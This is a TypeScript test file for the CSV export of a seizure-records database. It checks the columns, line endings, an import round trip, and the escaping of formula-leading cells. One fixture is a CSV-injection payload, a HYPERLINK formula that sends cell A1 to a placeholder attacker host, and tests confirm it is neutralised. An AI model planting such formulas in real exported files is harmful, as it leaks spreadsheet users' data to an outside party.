/** CSV export: the public columns, CRLF, ';'-lists, neutralised formula cells, and the round trip through import. */
import { describe, expect, it } from 'vitest';
import { parseImportFile, seizuresToCsv } from '../../../service/import';
import { PUBLIC_COLUMNS } from '../../../service/import/public-columns';
import type { Seizure, SeizureFields } from '../../../shared/domain/seizure';
import { publicCsvBytes, utf8 } from '../import/fixtures';

const HEADER = 'seizure_date,date_precision,country_iso2,place,latitude,longitude,location_precision,crime_sector,commodity,taxon,quantity,unit,origin_iso2,transit_iso2,destination_iso2,seizing_agency,reported_value,reported_currency,operation,source_url,source_title,notes,export_iso2,transit_missed_iso2,transport_mode,detection_method,concealment_method,cites_appendix,review_flags';

const stamp = (fields: SeizureFields, i: number): Seizure => ({
  ...fields, id: `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`, createdBy: 'm1', createdAt: 1, updatedBy: 'm1', updatedAt: 1,
});

const base: SeizureFields = {
  seizureDate: '2021-03-11', datePrecision: 'day', country: 'KE', place: 'Mombasa, Kilindini', latitude: -4.05, longitude: 39.6667,
  locationPrecision: 'port', sector: 'forestry', commodity: 'rosewood logs', taxon: 'Dalbergia spp.', citesAppendix: 'II', quantity: 1200,
  unit: 'kg', originCountries: ['MG', 'KM'], transitCountries: [], destinationCountries: ['CN'], seizingAgencies: ['Kenya Revenue Authority', 'KWS'],
  reportedValue: 1500000.5, reportedCurrency: 'KES', operation: 'Op. "Rosewood"', sourceUrl: 'https://example.org/a?b=1,2', sourceTitle: 'Logs, seized',
  notes: 'line one\nline two, with "quotes"',
  exportCountries: [], missedTransitCountries: [], transportMode: null, detectionMethod: null, concealmentMethod: null,
};

describe('seizuresToCsv', () => {
  it('writes exactly the public columns, CRLF after every line, lists joined with ;', () => {
    const csv = seizuresToCsv([stamp(base, 1)]);
    expect(`${PUBLIC_COLUMNS.map(([c]) => c).join(',')},review_flags`).toBe(HEADER);
    expect(csv).toBe(
      `${HEADER}\r\n` +
        '2021-03-11,day,KE,"Mombasa, Kilindini",-4.05,39.6667,port,forestry,rosewood logs,Dalbergia spp.,1200,kg,MG;KM,,CN,Kenya Revenue Authority; KWS,1500000.5,KES,' +
        '"Op. ""Rosewood""","https://example.org/a?b=1,2","Logs, seized","line one\nline two, with ""quotes""",,,,,,II,\r\n',
    );
  });

  it('writes only the header for no seizures', () => expect(seizuresToCsv([])).toBe(`${HEADER}\r\n`));

  it("prefixes text cells starting with = + - @ tab or CR with ', and leaves negative coordinates numeric", () => {
    const s = stamp({ ...base, place: '-Mombasa', commodity: '@logs', taxon: '\tx', operation: '\rop', sourceTitle: '+1', notes: '=1+1', latitude: -4.05, longitude: -39.6667 }, 2);
    const row = seizuresToCsv([s]).split('\r\n')[1]!;
    expect(row).toBe(
      `2021-03-11,day,KE,'-Mombasa,-4.05,-39.6667,port,forestry,'@logs,'\tx,1200,kg,MG;KM,,CN,Kenya Revenue Authority; KWS,1500000.5,KES,"'\rop","https://example.org/a?b=1,2",'+1,'=1+1,,,,,,II,`,
    );
  });

  it('neutralises formula cells that contain line breaks too (a multi-line note or commodity)', () => {
    const s = stamp({ ...base, notes: '=HYPERLINK("http://attacker.invalid/?x="&A1,"open")&"\nsecond line"', commodity: '@SUM(1)\r\nsecond line' }, 3);
    const csv = seizuresToCsv([s]);
    expect(csv).toContain(`"'=HYPERLINK(""http://attacker.invalid/?x=""&A1,""open"")&""\nsecond line"`);
    expect(csv).toContain(`"'@SUM(1)\r\nsecond line"`);
    expect(csv).not.toMatch(/[,\n]"?=HYPERLINK/);
  });
});

describe('export → import round trip', () => {
  it('gives back the same fields, the CITES appendix included', () => {
    const items = [
      base,
      { ...base, latitude: null, longitude: null, quantity: null, reportedValue: null, reportedCurrency: null, originCountries: [], seizingAgencies: [], notes: '', datePrecision: 'year' as const, seizureDate: '2014-01-01', unit: null }, // no quantity, no unit: exported empty and re-imported as not stated
      { ...base, quantity: 0.125, unit: 't' as const, datePrecision: 'month' as const, seizureDate: '2019-06-01', country: 'HK', sector: 'ods' as const, citesAppendix: null },
      { ...base, citesAppendix: 'I' as const },
    ];
    const csv = seizuresToCsv(items.map(stamp));
    const parsed = parseImportFile({ fileName: 'export.csv', bytes: utf8(csv) });
    expect(parsed.mappingSource).toBe('fixed');
    expect(parsed.report.rejected).toEqual([]);
    expect(parsed.seizures.map((s) => s.fields)).toEqual(items);
  });

  it('keeps the leading quote of neutralised cells (documented): the text is no longer a formula', () => {
    const csv = seizuresToCsv([stamp({ ...base, notes: '=HYPERLINK("http://x.invalid")', commodity: '+logs' }, 3)]);
    const back = parseImportFile({ fileName: 'export.csv', bytes: utf8(csv) }).seizures[0]!.fields;
    expect(back.notes).toBe('\'=HYPERLINK("http://x.invalid")');
    expect(back.commodity).toBe("'+logs");
    expect({ ...back, notes: base.notes, commodity: base.commodity }).toEqual(base);
  });

  it('round-trips the whole public data set', () => {
    const first = parseImportFile({ fileName: 'seizures-public.csv', bytes: publicCsvBytes() });
    const csv = seizuresToCsv(first.seizures.map((s, i) => stamp(s.fields, i)));
    const second = parseImportFile({ fileName: 'again.csv', bytes: utf8(csv) });
    expect(second.report.imported).toBe(59);
    expect(second.seizures.map((s) => s.fields)).toEqual(first.seizures.map((s) => s.fields));
  });
});
